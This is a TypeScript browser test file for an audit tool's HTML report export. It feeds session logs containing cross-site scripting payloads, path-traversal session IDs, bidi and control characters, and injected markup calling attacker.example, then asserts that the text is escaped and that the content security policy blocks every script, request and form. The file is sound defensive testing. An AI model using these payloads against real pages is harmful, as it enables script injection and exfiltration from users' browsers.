import { readdirSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { pathToFileURL } from "node:url";
import { beforeAll, afterAll, describe, expect, test } from "vitest";
import type { Browser } from "playwright-core";
import { writeSessions } from "../audit-review/report-record.ts";
import { hasBrowser, openWatched, startBrowser, withBrowser } from "../harness/browser.ts";
import { pep } from "../harness/endpoint.ts";
import { temporaryDirectory } from "../harness/temporary-directory.ts";

/** Every way out of the places where the report puts foreign text: an element, an attribute, a script block, a style. */
const hostile = [
  "</script><img src=x onerror=alert(1)>",
  "<!--<script>",
  "<script src=https://attacker.example/x.js></script>",
  "<script src=../assets/session.js></script>",
  "\"'><svg onload=alert(2)>",
  "' onmouseover='alert(3)",
  "</style><style>body{display:none}</style>",
  "</title><meta http-equiv=refresh content='0;url=https://attacker.example/'>",
  "</textarea></select><iframe srcdoc='<script>parent.alert(4)</script>'>",
  "javascript:alert(5)",
  "${alert(6)}`",
  "&lt;b&gt; &#x3c;img src=x onerror=alert(7)&#x3e;",
  "PC-\u202egnp.exe\u202c",
  "line\u2028separator\u2029",
  "bell\u0007 nul\u0000 escape\u001b[2J",
  "\ud800 lone",
  "__proto__",
] as const;

/** What a reader must be able to find on the page, letter by letter. */
const shown = (text: string): string =>
  text
    .toWellFormed()
    .replace(/[^\P{C}\n]|[\u2028\u2029]/gu, (character) => `\\u{${(character.codePointAt(0) ?? 0).toString(16)}}`);

const exported = async (): Promise<{ folder: string; index: string }> => {
  const dataDirectory = join(temporaryDirectory(), "data");
  const sessions = hostile.map((text, place) => ({
    sessionId: `S-${String(place).padStart(4, "0")}`,
    user: text,
    startedAt: new Date(Date.UTC(2026, 4, 1 + place)),
    computers: [text, `second ${text}`],
    command: text,
    reason: text,
    clientAddress: text,
    clientSoftware: text,
    transcript: [
      [0.1, "o", `before ${text} after\r\n`],
      [0.1, "m", `disclosed ${text}`],
      [
        0.1,
        "o",
        "\u001b]8;;javascript:alert(8)\u001b\\link\u001b]8;;\u001b\\ \u001b]0;<img src=x onerror=alert(9)>\u0007",
      ],
      [0.1, "r", "<script>alert(10)</script>"],
      [0.1, "r", "99999999x99999999"],
      [0.1, "x", text],
    ],
  }));
  // A session's name names its page: it comes from the log, which may have been tampered with.
  const outside = {
    ...sessions[0],
    sessionId: "../../outside",
    user: "mallory",
    startedAt: new Date(0),
    computers: [],
  };
  const { transcript: _, ...withoutTranscript } = outside;
  writeSessions(dataDirectory, [...sessions, withoutTranscript]);
  const folder = join(temporaryDirectory(), "report");
  const result = await pep(["audit", "export", "--html", folder, "--data-dir", dataDirectory]);
  expect(result.status, result.stderr).toBe(0);
  return { folder, index: pathToFileURL(join(folder, "index.html")).href };
};

describe.skipIf(!hasBrowser)(`hostile text in a report, ${withBrowser}`, () => {
  let browser: Browser;
  beforeAll(async () => {
    browser = await startBrowser();
  });
  afterAll(() => browser.close());

  // ATTACK   Give a computer a name that is markup, log in with such a client, ask with such a reason, type it into the screen.
  // DANGER   The auditor opens the report, and the name runs as a script: it rewrites what they see, or sends the record away.
  // EXPECT   Nothing runs, nothing is asked of the network, and the text stands there as text, its invisible characters visible.
  test(
    "what users and clients wrote is shown letter by letter, and nothing of it runs",
    { timeout: 120_000 },
    async () => {
      const { folder, index } = await exported();
      expect(readdirSync(folder).sort()).toEqual([".pep-report", "assets", "index.html", "sessions"]);
      const { page, trouble } = await openWatched(browser);
      await page.goto(index);
      await expect.poll(() => page.locator("#sessions tbody tr").count()).toBe(hostile.length + 1);
      const list = (await page.locator("#sessions").textContent()) ?? "";
      const charts = (await page.locator("#by-user").textContent()) ?? "";
      for (const text of hostile) {
        expect(list).toContain(shown(text));
        expect(
          await page
            .locator("#users option")
            .evaluateAll((found) => found.map((option) => option.getAttribute("value"))),
        ).toContain(shown(text));
      }
      expect(charts).toContain("1");
      const pages = await page
        .locator("#sessions tbody a")
        .evaluateAll((links) => links.map((link) => (link instanceof HTMLAnchorElement ? link.href : "")));
      expect(new Set(pages).size).toBe(hostile.length + 1);
      for (const [place, text] of hostile.entries()) {
        const href = pages.find((link) => link.endsWith(`S-${String(place).padStart(4, "0")}.html`)) ?? "";
        await page.goto(href);
        await expect.poll(() => page.locator("#markers button").count()).toBe(1);
        const body = (await page.locator("main").textContent()) ?? "";
        // User, client software, address, command, reason and both computers.
        expect(body.split(shown(text)).length).toBeGreaterThan(7);
        await page.locator("#markers button").click();
        await expect.poll(() => page.locator("#position").textContent()).toContain("disclosed");
        await expect.poll(() => page.locator(".ap-term-text").innerText()).toContain("before");
        expect(await page.locator("#main iframe, #main img, #main [onload], #main [onerror], #main a").count()).toBe(0);
      }
      expect(trouble).toEqual([]);
    },
  );

  // ATTACK   Find a hole in the escaping anyway: markup of one's own in a page.
  // DANGER   One forgotten place is enough to run a script with the whole report before it.
  // EXPECT   The page's policy stops it: inline scripts and handlers, files beside it, the network, a form, another base.
  test.each(["index.html", "player", "plain"])(
    "markup that got into a page (%s) still can't run or call out",
    async (which) => {
      const { folder, index } = await exported();
      const session =
        which === "player"
          ? "S-0000.html"
          : readdirSync(join(folder, "sessions")).find((name) => name.startsWith("session-"));
      const { page, trouble } = await openWatched(browser);
      await page.goto(which === "index.html" ? index : pathToFileURL(join(folder, "sessions", session ?? "")).href);
      const markup = `<base href="https://attacker.example/"><img src="https://attacker.example/a.png" onerror="window.ran='handler'">
      <iframe src="https://attacker.example/"></iframe><link rel="stylesheet" href="https://attacker.example/a.css">
      <script>window.ran = 'inline'</script><script src="file://${folder}/assets/session.js"></script><a id="out" href="javascript:window.ran='link'">x</a>
      <form action="https://attacker.example/"><button id="send">send</button></form>`;
      // As the parser would have found it: only a page's own text can be what an escape was forgotten in.
      const path = new URL(page.url()).pathname;
      const attacked = join(temporaryDirectory(), "attacked.html");
      const { writeFileSync } = await import("node:fs");
      writeFileSync(
        attacked,
        readFileSync(decodeURIComponent(path), "utf8").replace(
          '<main id="main" tabindex="-1">',
          (main) => `${main}${markup}`,
        ),
      );
      trouble.length = 0;
      const attempted: string[] = [];
      page.on("requestfinished", (request) => attempted.push(request.url()));
      await page.goto(pathToFileURL(attacked).href);
      await page.locator("#out").click();
      await page.locator("#send").click();
      expect(await page.evaluate(() => Reflect.get(globalThis, "ran"))).toBeUndefined();
      expect(attempted.filter((url) => !url.startsWith("file:///") || url.includes("session.js"))).toEqual([]);
      const refused = trouble.join("\n");
      for (const directive of ["script-src", "img-src", "style-src", "base-uri", "form-action"])
        expect(refused).toContain(directive);
    },
  );
});
